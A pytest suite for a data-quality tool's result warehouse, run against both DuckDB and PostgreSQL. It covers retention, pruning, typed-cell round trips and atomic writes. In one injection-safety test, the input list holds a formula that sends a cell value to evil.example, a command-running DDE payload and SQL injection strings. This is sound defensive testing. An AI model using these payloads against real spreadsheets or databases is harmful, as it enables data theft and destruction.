"""What every warehouse promises: the same suite over the DuckDB file and over PostgreSQL, from both engines."""

from __future__ import annotations

import math
import uuid
from collections.abc import Iterator
from datetime import UTC, date, datetime, time, timedelta, timezone
from decimal import Decimal

import pytest

from assay.protocol import report as reports
from assay.protocol.bundle import Bundle
from assay.protocol.report import Reason
from assay.protocol.warehouse import WarehousePolicy
from assay.runner.engines.port import Cell, EngineError
from assay.runner.run import RunResult, run
from assay.runner.store import RunHead, StoredGroup, StoredRows
from tests.runner.builders import bundle, capture, check, declared, fails, m, measure, query
from tests.runner.conftest import Engine
from tests.runner.warehouses import NOW, Place, cells, given, head, report


def spec(
    engine: Engine, *, keep_days: int | None = None, columns: tuple[str, ...] = ("id", "name")
) -> Bundle:
    return bundle(
        [declared("id", "int"), declared("name", "text")],
        [
            query("s1", measure("rows", "count(*)"), measure("bad", "count(*) - count(name)")),
            query("s2", measure("per", "count(*)"), keys=["id"]),
        ],
        [
            check("bad", m("bad"), fails("=", "0"), failed=m("bad"), tested=m("rows")),
            check("good", m("rows"), fails(">=", "0")),
            check("per", m("per"), fails("<", "2"), query="s2"),
        ],
        [capture("bad", *columns, where="name IS NULL"), capture("good", "id")],
        dialect=engine.dialect,
        keep_days=keep_days,
    )


def execute(
    engine: Engine,
    place: Place,
    one: Bundle,
    *,
    now: datetime = NOW,
    run_id: str = "r1",
    policy: WarehousePolicy | None = None,
) -> RunResult:
    result = run(one, lambda _: engine.open(), store=place.writer, now=now, run_id=run_id, policy=policy)
    assert not result.report.store_failed, result.details.store_message
    return result


@pytest.fixture
def filled(engine: Engine) -> Engine:
    engine.write(
        "CREATE TABLE public.orders (id int, name varchar);"
        " INSERT INTO public.orders VALUES (1, null), (2, 'x'), (2, null)"
    )
    return engine


def rows_of(place: Place, run_id: str, check_: str) -> list[tuple[Cell, ...]]:
    return cells(place.reader.read(run_id, check_))


def count(place: Place, table: str) -> int:
    ((number,),) = place.sql(f"SELECT count(*) FROM {place.table(table)}")
    assert isinstance(number, int)
    return number


# -- whole runs


def test_failed_rows_are_kept_with_their_types(filled: Engine, place: Place) -> None:
    result = execute(filled, place, spec(filled))
    kept = {one.id: one.kept_rows for one in result.report.checks}
    assert kept == {"orders.schema": None, "bad": 2, "good": None, "per": None}
    found = place.reader.read("last", "bad")
    assert found is not None
    assert found.columns == (("id", "INTEGER"), ("name", "VARCHAR"))
    assert sorted(cells(found)) == [(1, None), (2, None)]
    assert place.reader.groups("r1", "per") == [StoredGroup(("2",), "failed", "2", None)]
    (listed,) = place.reader.runs()
    assert (listed.run, listed.contract, listed.version) == ("r1", "shop.orders", "1.0.0")
    assert (listed.now, listed.outcome, listed.checks) == (NOW, "failed", {"bad": 2})
    assert reports.decode(listed.report) == result.report


def test_the_same_run_again_changes_nothing(filled: Engine, place: Place) -> None:
    for _ in range(2):
        execute(filled, place, spec(filled))
        assert sorted(rows_of(place, "r1", "bad")) == [(1, None), (2, None)]
        assert [count(place, table) for table in ("runs", "captures", "groups")] == [1, 1, 1]


def test_a_run_that_is_repeated_leaves_nothing_of_its_first_try(filled: Engine, place: Place) -> None:
    execute(filled, place, spec(filled))
    filled.write("DELETE FROM public.orders WHERE name IS NULL")
    execute(filled, place, spec(filled))
    assert rows_of(place, "r1", "bad") == []
    (listed,) = place.reader.runs()
    assert listed.checks == {}
    assert count(place, "captures") == 0


def test_a_warehouse_that_is_there_hears_of_every_run(filled: Engine, place: Place) -> None:
    execute(filled, place, spec(filled))
    filled.write("DELETE FROM public.orders WHERE name IS NULL")
    execute(filled, place, spec(filled), now=NOW + timedelta(days=1), run_id="r2")
    assert [one.run for one in place.reader.runs()] == ["r2", "r1"]
    assert [one.run for one in place.reader.runs(limit=1)] == ["r2"]
    assert [one.run for one in place.reader.runs("shop.orders", run="r1")] == ["r1"]
    assert place.reader.runs("other") == []
    assert place.reader.runs(run="r3") == []


def test_columns_may_change_from_run_to_run(filled: Engine, place: Place) -> None:
    execute(filled, place, spec(filled))
    execute(filled, place, spec(filled, columns=("name",)), now=NOW + timedelta(days=1), run_id="r2")
    assert len(rows_of(place, "r1", "bad")[0]) == 2
    assert rows_of(place, "last", "bad") == [(None,), (None,)]
    assert place.reader.read("r3", "bad") is None
    assert place.reader.read("last", "bad", contract="other") is None


# -- how long


def test_runs_are_removed_when_their_days_are_over(filled: Engine, place: Place) -> None:
    execute(filled, place, spec(filled, keep_days=30))
    place.age(29)
    execute(filled, place, spec(filled, keep_days=30), run_id="r2")
    assert len(rows_of(place, "r1", "bad")) == 2
    place.age(2)
    execute(filled, place, spec(filled, keep_days=30), run_id="r3")
    assert sorted(one.run for one in place.reader.runs()) == ["r2", "r3"]
    assert rows_of(place, "r1", "bad") == []
    assert place.reader.groups("r1", "per") == []
    assert count(place, "groups") == count(place, "captures") == 2


def test_the_moment_that_a_run_was_given_has_no_part_in_how_long_it_stays(
    filled: Engine, place: Place
) -> None:
    execute(filled, place, spec(filled, keep_days=30))
    execute(filled, place, spec(filled, keep_days=30), now=NOW + timedelta(days=10_000), run_id="r2")
    assert len(place.reader.runs()) == 2


def test_a_contract_that_keeps_less_removes_what_is_older(filled: Engine, place: Place) -> None:
    execute(filled, place, spec(filled))
    place.age(8)
    execute(filled, place, spec(filled, keep_days=7), run_id="r2")
    assert [one.run for one in place.reader.runs()] == ["r2"]


def test_the_customer_may_keep_for_fewer_days_than_the_contract_asks(filled: Engine, place: Place) -> None:
    execute(filled, place, spec(filled, keep_days=30), policy=WarehousePolicy(days=2))
    place.age(3)
    assert place.writer.prune() == 1
    assert place.reader.runs() == []


def test_prune_removes_what_is_over_and_nothing_else(filled: Engine, place: Place) -> None:
    execute(filled, place, spec(filled, keep_days=2))
    execute(filled, place, spec(filled, keep_days=20), run_id="r2")
    execute(filled, place, spec(filled), run_id="r3")
    assert place.writer.prune() == 0
    place.age(3)
    assert place.writer.prune() == 1
    place.age(300)
    assert place.writer.prune() == 1
    assert [one.run for one in place.reader.runs()] == ["r3"]
    assert len(rows_of(place, "r3", "bad")) == 2
    assert rows_of(place, "r1", "bad") == rows_of(place, "r2", "bad") == []


# -- cells


def kept(place: Place, columns: list[tuple[str, str]], *rows: tuple[Cell, ...]) -> StoredRows:
    """The rows, written and read back."""
    place.writer.begin(head())
    assert place.writer.keep("check", columns, given(list(rows))) == len(rows)
    place.writer.finish(report())
    found = place.reader.read("r1", "check")
    assert found is not None
    return found


TYPED: list[tuple[str, str, Cell]] = [
    ("yes", "BOOLEAN", True),
    ("tiny", "TINYINT", -128),
    ("small", "SMALLINT", -32_768),
    ("whole", "INTEGER", 2**31 - 1),
    ("big", "BIGINT", -(2**63)),
    ("huge", "HUGEINT", 2**127 - 1),
    ("unsigned", "UBIGINT", 2**64 - 1),
    ("money", "DECIMAL(12,2)", Decimal("-1234567890.12")),
    ("wide", "DECIMAL(38,10)", Decimal("1234567890123456789012345678.0123456789")),
    ("half", "FLOAT", 0.5),
    ("double", "DOUBLE", 0.1),
    ("endless", "DOUBLE", math.inf),
    ("word", "VARCHAR", "é \"quoted\" 'too' \\ \\N \t \n tab and line"),
    ("empty", "VARCHAR", ""),
    ("key", "UUID", uuid.UUID("12345678-1234-5678-1234-567812345678")),
    ("day", "DATE", date(1, 1, 1)),
    ("clock", "TIME", time(23, 59, 59, 999_999)),
    ("moment", "TIMESTAMP", datetime(2024, 2, 29, 1, 2, 3, 4)),
]


def test_typed_cells_come_back_as_they_were(place: Place) -> None:
    columns = [(name, type_) for name, type_, _ in TYPED]
    found = kept(place, columns, tuple(cell for *_, cell in TYPED), (None,) * len(TYPED))
    assert found.columns == tuple(columns)
    first, second = cells(found)
    for (name, _, cell), back in zip(TYPED, first, strict=True):
        assert (str(back) if name in ("key", "huge", "unsigned") else back) == (
            str(cell) if name in ("key", "huge", "unsigned") else cell
        ), name
    assert second == (None,) * len(TYPED)


def test_a_zoned_instant_stays_the_same_instant(place: Place) -> None:
    instant = datetime(2024, 2, 29, 1, 2, 3, tzinfo=timezone(timedelta(hours=5, minutes=30)))
    ((back,),) = cells(kept(place, [("at", "TIMESTAMP WITH TIME ZONE")], (instant,)))
    assert isinstance(back, datetime)
    assert (back if back.tzinfo else back.replace(tzinfo=UTC)) == instant


def test_not_a_number_is_one(place: Place) -> None:
    columns = [("a", "DECIMAL(9,2)"), ("b", "DOUBLE")]
    ((a, b),) = cells(kept(place, columns, (Decimal("NaN"), math.nan)))
    assert str(a) == "NaN"
    assert isinstance(b, float)
    assert math.isnan(b)


@pytest.mark.parametrize(
    ("type_", "text"),
    [
        ("DATE", "20000-01-01"),
        ("DATE", "0044-03-15 (BC)"),
        ("DATE", "9000-03-15 (BC)"),
        ("TIMESTAMP", "0044-03-15 (BC) 01:02:03"),
        ("TIMESTAMP", "12000-01-01 00:00:00"),
        ("TIME", "24:00:00"),
        ("DATE", "no date at all"),
        ("INTEGER", "no number at all"),
    ],
)
def test_what_a_type_cannot_hold_is_not_lost(place: Place, type_: str, text: str) -> None:
    found = kept(place, [("id", "INTEGER"), ("odd", type_)], (1, text), (2, None))
    (one, back), second = cells(found)
    assert one == 1
    assert second == (2, None)
    written = str(back).replace(" (BC)", "").replace(" BC", "")
    assert written.startswith(text.replace(" (BC)", ""))


def test_a_zero_character_does_not_end_a_text(place: Place) -> None:
    ((back,),) = cells(kept(place, [("a", "VARCHAR")], ("before\0after",)))
    assert str(back).replace("\u2400", "\0") == "before\0after"


def test_names_may_be_anything(place: Place) -> None:
    names = ["_run", "_row", "a", "A", 'é"', "select", "x" * 70, "x" * 71, "é" * 50, " ", "%s", "{schema}"]
    found = kept(place, [(name, "INTEGER") for name in names], tuple(range(len(names))))
    assert cells(found) == [tuple(range(len(names)))]
    shown = [name for name, _ in found.columns]
    assert shown[4:7] == names[4:7]
    assert len(set(shown)) == len(names)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1)',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "'); DROP TABLE assay.runs; --",
        "\\.",
        "\\N",
        "$$ || pg_sleep(9) || $$",
        '{"a": "\\u0000"}',
        "%s %(x)s $1 {schema}",
    ],
)
def test_a_cell_is_data_whatever_it_says(place: Place, text: str) -> None:
    """T17: cells are copied or bound. As names of checks, contracts and keys, too."""
    place.writer.begin(RunHead("r1", text, text, NOW, None))
    place.writer.keep(text, [(text, "VARCHAR")], given([(text,)]))
    place.writer.keep_groups(text, [StoredGroup((text,), "failed", text, 1)])
    place.writer.finish(report())
    assert rows_of(place, "r1", text) == [(text,)]
    assert place.reader.groups("r1", text) == [StoredGroup((text,), "failed", text, 1)]
    assert place.reader.runs()[0].contract == text


def test_an_empty_check_and_no_check_are_two_things(place: Place) -> None:
    place.writer.begin(head())
    assert place.writer.keep("check", [("a", "INTEGER")], given()) == 0
    place.writer.finish(report())
    assert rows_of(place, "r1", "check") == []
    assert place.reader.runs()[0].checks == {"check": 0}
    assert place.reader.read("r1", "other") is None


# -- whole or not at all


def failing(*batches: list[tuple[Cell, ...]]) -> Iterator[list[tuple[Cell, ...]]]:
    yield from batches
    raise EngineError(Reason.DATA_ERROR, "22P02", "a cell")


def test_a_source_that_fails_half_way_leaves_nothing(place: Place) -> None:
    place.writer.begin(head())
    place.writer.keep("first", [("a", "INTEGER")], given([(7,)]))
    for batches in (failing(), failing([(1,)] * 5000)):
        with pytest.raises(EngineError) as caught:
            place.writer.keep("check", [("a", "INTEGER")], batches)
        assert caught.value.code == "22P02"
    assert place.writer.keep("check", [("a", "INTEGER")], given([(2,)])) == 1
    place.writer.finish(report())
    assert rows_of(place, "r1", "check") == [(2,)]
    assert rows_of(place, "r1", "first") == [(7,)]


def test_what_was_not_finished_is_not_there(place: Place) -> None:
    place.writer.begin(head("r0"))
    place.writer.keep("check", [("a", "INTEGER")], given([(1,)]))
    place.writer.finish(report("r0"))
    place.writer.begin(head())
    place.writer.keep("check", [("a", "INTEGER")], given([(1,)], [(2,)]))
    place.writer.close()
    assert [one.run for one in place.reader.runs()] == ["r0"]
    assert place.reader.read("r1", "check") is None
    assert count(place, "captures") == 1


def test_many_batches_keep_their_order(place: Place) -> None:
    batches: list[list[tuple[Cell, ...]]] = [
        [(number,) for number in range(start, start + 999)] for start in range(0, 9990, 999)
    ]
    place.writer.begin(head())
    assert place.writer.keep("check", [("a", "INTEGER")], given(*batches)) == 9990
    place.writer.finish(report())
    found = place.reader.read("r1", "check", batch=100)
    assert found is not None
    assert [len(batch) for batch in found.batches][:3] == [100, 100, 100]
    assert rows_of(place, "r1", "check") == [(number,) for number in range(9990)]
